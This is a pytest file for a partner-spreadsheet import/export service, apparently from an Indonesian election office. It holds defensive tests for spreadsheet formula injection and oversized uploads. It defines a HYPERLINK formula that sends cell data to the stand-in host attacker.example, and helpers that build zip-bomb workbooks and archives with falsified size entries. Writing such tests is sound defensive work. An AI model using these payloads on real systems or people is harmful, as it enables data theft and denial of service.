"""Reading and writing partner spreadsheets, as offices keep them, without I/O."""

from __future__ import annotations

import csv
import io
import struct
import zipfile
from collections.abc import Iterable, Iterator
from datetime import UTC, date, datetime

import pytest
from openpyxl import Workbook, load_workbook

from services.partners import domain, sheetfile, spreadsheet
from services.partners.domain import Partner
from shared import cells

NOW = datetime(2024, 10, 17, 3, 0, tzinfo=UTC)


def xlsx(rows: list[list[object]]) -> bytes:
    book = Workbook()
    for row in rows:
        book.active.append(row)
    for cells in book.active.iter_rows():
        for cell in cells:
            if isinstance(cell.value, str):
                cell.data_type = "s"  # text as an office types it, "=A" included, not a formula
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def test_indonesian_headers_in_any_case_below_a_title_row():
    content = xlsx([
        ["DAFTAR MITRA SOSIALISASI KPU KOTA BANDUNG 2024"],
        [],
        ["No.", "Nama Mitra", "Jenis", "Kecamatan", "Segmen", "Kategori", "Nama Kontak", "Jabatan", "No. HP",
         "E-mail", "Keterangan"],
        [1, "KIM Coblong Berdaya", "KIM", "32.73.02", "Pemilih Muda, warganet", "kepemudaan; seni", "Asep",
         "Ketua", 81222334455, "asep@kim.example.id", "aktif"],
        [None] * 11,
        [2, "Radio Komunitas Cibiru", "Media", "Cibiru", "umum", "", "Rina", "Penyiar", "022-7800001", "", ""],
    ])
    sheet = spreadsheet.parse(content)
    assert sheet.ignored_columns == ["No."]
    first, second = sheet.rows
    assert first.number == 4 and second.number == 6  # rows of the file, blank ones skipped
    assert first.values["name"] == "KIM Coblong Berdaya" and first.values["type"] == "kim"
    assert first.values["segments"] == ["pemilih_muda", "warga_internet"]
    assert first.values["categories"] == ["kepemudaan", "seni"]
    assert first.values["contacts"] == [{"name": "Asep", "role": "Ketua", "phone": "81222334455",
                                         "email": "asep@kim.example.id"}]
    assert first.label("contacts[0].phone") == "No. HP" and first.label("segments[1]") == "Segmen"
    assert second.values["type"] == "media" and second.values["categories"] == []


def test_english_headers_numbered_groups_and_a_semicolon_csv():
    content = (
        "Name;Type;District;contact 1 name;contact 1 email;Contact2_Name;contact2_phone;channel1_kind;"
        "channel1_handle;channel1_audience;agreement1_type;agreement1_number;agreement1_valid_from;"
        "agreement1_valid_until\n"
        "Universitas Pasundan;Kampus;Lengkong;Dr. Rahmat;rahmat@unpas.example.id;;;IG;@unpas;1.200;"
        "Nota Kesepahaman;12/MoU/2024;01/06/2024;31-12-2025\n"
    ).encode("cp1252")
    [row] = spreadsheet.parse(content).rows
    assert row.number == 2
    assert row.values["type"] == "perguruan_tinggi"
    assert row.values["contacts"] == [{"name": "Dr. Rahmat", "email": "rahmat@unpas.example.id"}]
    assert row.values["channels"] == [{"kind": "instagram", "handle_or_url": "@unpas", "audience_size": 1200}]
    assert row.values["agreements"] == [{"doc_type": "mou", "number": "12/MoU/2024",
                                         "valid_from": date(2024, 6, 1), "valid_until": date(2025, 12, 31)}]
    assert row.label("agreements[0].valid_until") == "agreement1_valid_until"


def test_a_cell_that_cannot_be_read_is_a_row_error_naming_its_column():
    [row] = spreadsheet.parse(b"nama,jenis,kanal1_jenis,kanal1_akun,kanal1_pengikut\nKIM A,kim,radio,98.3 FM,banyak\n").rows
    assert row.errors == [("channels[0].audience_size", "'banyak' is not a number")]
    assert row.label("channels[0].audience_size") == "kanal1_pengikut"


def test_a_row_with_more_cells_than_the_header_is_refused():
    [row] = spreadsheet.parse(b"nama,jenis,segmen\nKIM A,kim,pemilih_muda, perempuan\n").rows
    assert row.errors == [("row", "has 4 cells but the header names 3 columns; a comma inside a cell needs quotes")]


def test_a_cell_under_a_header_column_left_blank_is_not_one_too_many():
    [row] = spreadsheet.parse(b"nama,jenis,\nKIM A,kim,lihat catatan\n").rows
    assert row.errors == [] and row.values == {"name": "KIM A", "type": "kim"}
    sheet = xlsx([["nama", "jenis", None], ["KIM A", "kim", "lihat catatan"]])  # the sheet says A1:C2
    [row] = spreadsheet.parse(sheet).rows
    assert row.errors == [] and row.values == {"name": "KIM A", "type": "kim"}


def test_a_file_without_a_name_column_is_refused_whole():
    with pytest.raises(spreadsheet.Unreadable, match="'nama'"):
        spreadsheet.parse(b"organisasi,jenis\nKIM A,kim\n")
    with pytest.raises(spreadsheet.Unreadable, match=r"\.xls"):
        spreadsheet.parse(b"\xd0\xcf\x11\xe0" + b"\0" * 100)


def test_a_row_column_keeps_the_numbers_of_the_original_file():
    table = spreadsheet.read_table(xlsx([["Judul"], ["nama", "jenis"], ["A", "kim"], [], ["B", "media"]]))
    chunk = spreadsheet.table_csv(table.header, table.rows[1:])
    [row] = spreadsheet.parse(chunk).rows
    assert row.number == 5 and row.values["name"] == "B"


def full_partner() -> Partner:
    fields = domain.details({
        "name": "Komunitas Seni Braga", "type": "ormas_komunitas", "district": "32.73.19",
        "categories": ["seni", "budaya"], "segments": ["pemilih_muda", "komunitas"],
        "contacts": [{"name": "Dewi Lestari", "role": "Koordinator", "phone": "081311112222", "email": "dewi@braga.example.id"},
                     {"name": "Yusuf", "phone": "022-4201234"}],
        "channels": [{"kind": "instagram", "handle_or_url": "@senibraga", "audience_size": 15400},
                     {"kind": "whatsapp_group", "handle_or_url": "Grup Seniman Braga"}],
        "notes": "Pentas seni tiap Sabtu malam,\n\"Braga Culture Night\"",
    }, "32.73")
    signed = domain.agreements([{"doc_type": "pks", "number": "045/PKS/KPU-Kot-011.329/2024", "title": "Pentas seni",
                                 "valid_from": "2024-09-01", "valid_until": "2024-12-31", "scope": "Pilwalkot 2024"}],
                               iter(["a1"]))
    partner = Partner.register(id="p1", region="32.73", now=NOW, by="op", fields=fields, agreements=signed)
    partner.suspend("menunggu laporan kegiatan", NOW, "op")
    return partner


@pytest.mark.parametrize("write", [spreadsheet.to_csv, spreadsheet.to_xlsx])
@pytest.mark.parametrize("lang", ["id", "en"])
def test_an_export_reads_back_to_the_same_values(write, lang):
    partner = full_partner()
    [row] = spreadsheet.parse(write([partner], lang)).rows
    assert row.errors == []
    assert domain.details({k: v for k, v in row.values.items() if k in domain.EDITABLE}, "32.73") == {
        key: getattr(partner, key) for key in domain.EDITABLE}
    [agreement] = domain.agreements(row.values["agreements"], iter(["a1"]))
    assert agreement == partner.agreements[0]
    assert row.values["status"] == "suspended" and row.values["status_reason"] == "menunggu laporan kegiatan"


def test_a_word_that_names_no_value_is_reported_as_the_office_wrote_it():
    content = "Daftar mitra 2024\nNama;Jenis;Segmen;Kontak\nKomunitas A;Komunitas Seni;Pemilih Muda, Milenial;Ujang\n"
    [row] = spreadsheet.parse(content.encode()).rows
    assert row.values["type"] == "Komunitas Seni"
    assert row.values["segments"] == ["pemilih_muda", "Milenial"]
    assert row.values["contacts"] == [{"name": "Ujang"}]
    refused = pytest.raises(domain.Invalid, domain.details, {"type": row.values["type"]}, "32.73", partial=True)
    errors = {error["field"]: error["message"] for error in refused.value.errors}
    assert errors["type"].startswith("'Komunitas Seni' is not one of")


# --- formulas in exports (issue 11, point 3) -------------------------------------------------

HOSTILE_NAME = '=HYPERLINK("http://attacker.example/?d="&A2,"Klik di sini")'


def hostile_partner() -> Partner:
    fields = domain.details({
        "name": HOSTILE_NAME, "type": "lainnya", "categories": ["@grup"],
        "contacts": [{"name": "-Asep", "role": "+Ketua", "phone": "+62 812-2233-4455"}],
        "notes": "'=sudah diapit petik", "channels": [{"kind": "website", "handle_or_url": "@kim"}],
    }, "32.73")
    return Partner.register(id="p2", region="32.73", now=NOW, by="op", fields=fields, agreements=[])


@pytest.mark.parametrize("text", [HOSTILE_NAME, "+6281222334455", "-", "-1+2", "@SUM(A1)", "\tx", "\rx", "'=x", "''x",
                                  "'x", "'", "''", "x", "", "Komunitas = Warga"])
def test_a_neutralised_cell_reads_back_as_it_was(text):
    assert cells.unescaped(cells.neutralised(text)) == text
    assert cells.unescaped(cells.protected(text)) == text
    assert not cells.neutralised(text).startswith(cells.FORMULA_START)


def test_a_csv_export_starts_no_cell_with_a_formula_character_and_reads_back_unchanged():
    partner = hostile_partner()
    content = spreadsheet.to_csv([partner])
    [_, row] = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    assert not [cell for cell in row if cell.startswith(cells.FORMULA_START)]
    assert "'" + HOSTILE_NAME in row and "'+6281222334455" in row and "'-Asep" in row and "''=sudah diapit petik" in row
    [read] = spreadsheet.parse(content).rows
    assert read.errors == []
    assert domain.details({k: v for k, v in read.values.items() if k in domain.EDITABLE}, "32.73") == {
        key: getattr(partner, key) for key in domain.EDITABLE}


def test_an_xlsx_export_writes_text_as_text_never_as_a_formula():
    partner = hostile_partner()
    content = spreadsheet.to_xlsx([partner])
    sheet = load_workbook(io.BytesIO(content))["Mitra"]  # not data_only: a formula would show as one
    name = sheet["A2"]
    assert (name.value, name.data_type) == (HOSTILE_NAME, "s")
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")
    [read] = spreadsheet.parse(content).rows
    assert read.values["name"] == HOSTILE_NAME and read.values["contacts"][0]["phone"] == "+6281222334455"
    assert read.values["notes"] == "'=sudah diapit petik"


def test_a_chunk_the_cli_sends_carries_cells_starting_like_an_escape_unchanged():
    table = spreadsheet.read_table(xlsx([["nama", "jenis", "catatan"], ["=A", "kim", "'=B"], ["'C", "kim", "-D"]]))
    assert [cells for _, cells in table.rows] == [["=A", "kim", "=B"], ["'C", "kim", "-D"]]
    chunk = spreadsheet.table_csv(table.header, table.rows)
    assert [[row.values["name"], row.values["notes"]] for row in spreadsheet.parse(chunk).rows] == [
        ["=A", "=B"], ["'C", "-D"]]


def test_text_xml_cannot_hold_is_left_out_of_an_xlsx_export_instead_of_failing_it():
    partner = hostile_partner()
    partner.notes = "bel\x07 berbunyi"
    sheet = load_workbook(io.BytesIO(spreadsheet.to_xlsx([partner])))["Mitra"]
    assert "bel berbunyi" in [cell.value for cell in sheet[2]]


# --- bounds of an upload (issue 11, point 2) -------------------------------------------------

SHEET_OPEN = (b'<?xml version="1.0" encoding="UTF-8"?>'
              b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
              b'<row r="1"><c r="A1" t="inlineStr"><is><t>nama</t></is></c></row>')
SHEET_CLOSE = b"</sheetData></worksheet>"


def with_sheet(chunks: Iterable[bytes], sheet: bytes = b"") -> bytes:
    """A workbook whose first sheet's XML is ``sheet`` + ``chunks``, written as they come (deflated at level 9)."""
    base = zipfile.ZipFile(io.BytesIO(xlsx([["nama"], ["A"]])))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for info in base.infolist():
            if info.filename == "xl/worksheets/sheet1.xml":
                with archive.open(info.filename, "w") as stream:
                    stream.write(sheet)
                    for chunk in chunks:
                        stream.write(chunk)
            else:
                archive.writestr(info.filename, base.read(info))
    return out.getvalue()


def bomb(megabytes: int) -> bytes:
    """A workbook of a few hundred KB whose sheet unpacks to ``megabytes`` MB of one repeated row."""
    row = b'<row><c t="inlineStr"><is><t>' + b"A" * 200 + b"</t></is></c></row>"
    block = row * ((1 << 20) // len(row))
    return with_sheet([SHEET_OPEN, *(block for _ in range(megabytes)), SHEET_CLOSE])


def lying(content: bytes, part: str = "xl/worksheets/sheet1.xml", size: int = 10_000) -> bytes:
    """``content`` with the directory saying ``part`` unpacks to ``size`` bytes (the central directory's
    uncompressed size, which zipfile trusts, 24 bytes into the part's entry)."""
    data = bytearray(content)
    at = data.find(b"PK\x01\x02")
    while at >= 0:
        name_length = struct.unpack_from("<H", data, at + 28)[0]
        if data[at + 46:at + 46 + name_length] == part.encode():
            struct.pack_into("<I", data, at + 24, size)
            return bytes(data)
        at = data.find(b"PK\x01\x02", at + 4)
    raise AssertionError(f"no {part} in the archive")


def rows_csv(count: int) -> bytes:
    return b"nama\n" + b"".join(b"K%d\n" % n for n in range(count))


SMALL = sheetfile.Limits(rows=10, unpacked_bytes=4 << 20)


def test_a_workbook_that_unpacks_past_the_bound_is_refused_from_its_directory():
    with pytest.raises(sheetfile.SheetTooLarge) as refused:
        spreadsheet.parse(bomb(8), SMALL)
    assert refused.value.facts == {"limit": "unpacked_bytes", "maximum": 4 << 20,
                                   "setting": "SINERGI_IMPORT_MAX_UNPACKED_MB"}
    assert "unpacks to more than 4 MB" in refused.value.detail


def test_a_part_that_unpacks_a_hundred_times_its_size_is_refused_under_the_bound():
    with pytest.raises(sheetfile.SheetTooLarge) as refused:
        spreadsheet.parse(bomb(3), SMALL)
    assert refused.value.facts == {"limit": "compression_ratio", "maximum": 100}


def test_a_part_larger_than_its_directory_says_is_not_unpacked_past_what_it_says(monkeypatch):
    # Counted as the bytes zipfile hands out, not timed: a clock bound depends on the machine's load.
    unpacked = []
    read = zipfile.ZipExtFile.read

    def counted(self, n=-1):
        got = read(self, n)
        unpacked.append(len(got))
        return got

    monkeypatch.setattr(zipfile.ZipExtFile, "read", counted)
    with pytest.raises(sheetfile.Unreadable, match="damaged") as refused:
        spreadsheet.parse(lying(bomb(50)), sheetfile.Limits(rows=10, unpacked_bytes=1 << 20))
    assert not isinstance(refused.value, sheetfile.SheetTooLarge)
    assert sum(unpacked) < 1 << 20, f"unpacked {sum(unpacked):,} bytes of a part that says it has 10,000"


def test_a_sheet_of_more_valued_rows_than_the_bound_is_refused_before_a_cell_is_parsed():
    content = xlsx([["nama", "jenis"], *([f"K{n}", "kim"] for n in range(31))])
    with pytest.raises(sheetfile.SheetTooLarge, match="the sheet has 32 rows") as refused:
        spreadsheet.parse(content, SMALL)
    assert refused.value.facts["limit"] == "rows" and refused.value.facts["setting"] == "SINERGI_IMPORT_MAX_ROWS"


@pytest.mark.parametrize("count, refused", [(10, False), (11, True)])
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_data_rows_are_counted_as_they_are_read_blank_ones_not(fmt, count, refused):
    rows = [["nama", "jenis"]] + [[f"K{n}", "kim"] if n % 2 else [None, None] for n in range(2 * count)]
    content = xlsx(rows) if fmt == "xlsx" else "\n".join(",".join(c or "" for c in r) for r in rows).encode()
    if refused:
        with pytest.raises(sheetfile.SheetTooLarge, match="more than 10 rows below its header"):
            spreadsheet.parse(content, SMALL)
    else:
        assert len(spreadsheet.parse(content, SMALL).rows) == count


def test_a_million_rows_of_csv_are_refused_having_read_the_rows_allowed(monkeypatch):
    # Counted as the rows the csv module hands out, not timed: a bound on the clock, even against the
    # time the rows allowed took just before, failed on a loaded CI machine (1.0 s against 0.9).
    handed = 0
    reader = csv.reader

    def counted(*args: object, **kwargs: object) -> Iterator[list[str]]:
        nonlocal handed
        for row in reader(*args, **kwargs):
            handed += 1
            yield row

    monkeypatch.setattr(csv, "reader", counted)
    with pytest.raises(sheetfile.SheetTooLarge, match="more than 20,000 rows"):
        spreadsheet.parse(rows_csv(1_000_000), sheetfile.Limits(rows=20_000))
    assert 20_000 < handed < 21_000, f"{handed:,} of the million rows were read"


def test_without_limits_any_number_of_rows_is_read():  # the CLI, reading the operator's own file
    assert len(spreadsheet.read_table(rows_csv(25_000)).rows) == 25_000


def test_a_sheet_claiming_a_huge_size_or_far_cells_is_not_padded_to_it(monkeypatch):
    far = (b'<row r="2"><c r="A2" t="inlineStr"><is><t>K</t></is></c>'
           b'<c r="B2" t="inlineStr"><is><t>kim</t></is></c></row>'
           b'<row r="3"><c r="XFD3" t="inlineStr"><is><t>jauh</t></is></c></row>')
    content = with_sheet([SHEET_OPEN.replace(b"<sheetData>", b'<dimension ref="A1:XFD1048576"/><sheetData>'),
                          far, SHEET_CLOSE])
    with pytest.raises(sheetfile.SheetTooLarge, match="row 3 has 16,384 columns"):
        spreadsheet.parse(content, SMALL)
    beyond = with_sheet([SHEET_OPEN, b'<row r="2"><c r="A2" t="inlineStr"><is><t>K</t></is></c></row>',
                         b'<row r="5000000"><c r="A5000000" t="inlineStr"><is><t>K</t></is></c></row>', SHEET_CLOSE])
    # Refused by the look through the archive, before openpyxl opens the workbook and walks five
    # million empty rows to the far one (seconds): seen at openpyxl's door, not with a clock.
    import openpyxl

    def opened(*args, **kwargs):
        raise AssertionError("openpyxl opened the workbook")

    with monkeypatch.context() as patched:
        patched.setattr(openpyxl, "load_workbook", opened)
        with pytest.raises(sheetfile.SheetTooLarge, match="past row 1,048,576"):
            spreadsheet.parse(beyond, SMALL)


def test_a_workbook_of_thousands_of_parts_is_refused_before_they_are_listed():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for n in range(1_500):
            archive.writestr(f"xl/media/{n}.bin", b"")
    with pytest.raises(sheetfile.SheetTooLarge, match="more than 1,000 parts"):
        spreadsheet.parse(out.getvalue(), SMALL)


def test_valued_rows_are_counted_across_chunks_and_namespace_prefixes():
    row = b'<x:row r="%d"><x:c r="A%d" t="inlineStr"><x:is><x:t>K</x:t></x:is></x:c></x:row>'
    empty = b'<x:row r="%d" spans="1:3"/>'
    body = b"".join((row % (n, n)) if n % 3 else (empty % n) for n in range(2, 150_002))
    content = with_sheet([body], sheet=b"<x:worksheet xmlns:x='http://schemas.openxmlformats.org/"
                                       b"spreadsheetml/2006/main'><x:sheetData>")
    counted = sheetfile.check_xlsx(content + b"", sheetfile.Limits())
    assert len(body) > 3 * sheetfile.CHUNK
    assert counted["xl/worksheets/sheet1.xml"] == sum(1 for n in range(2, 150_002) if n % 3)
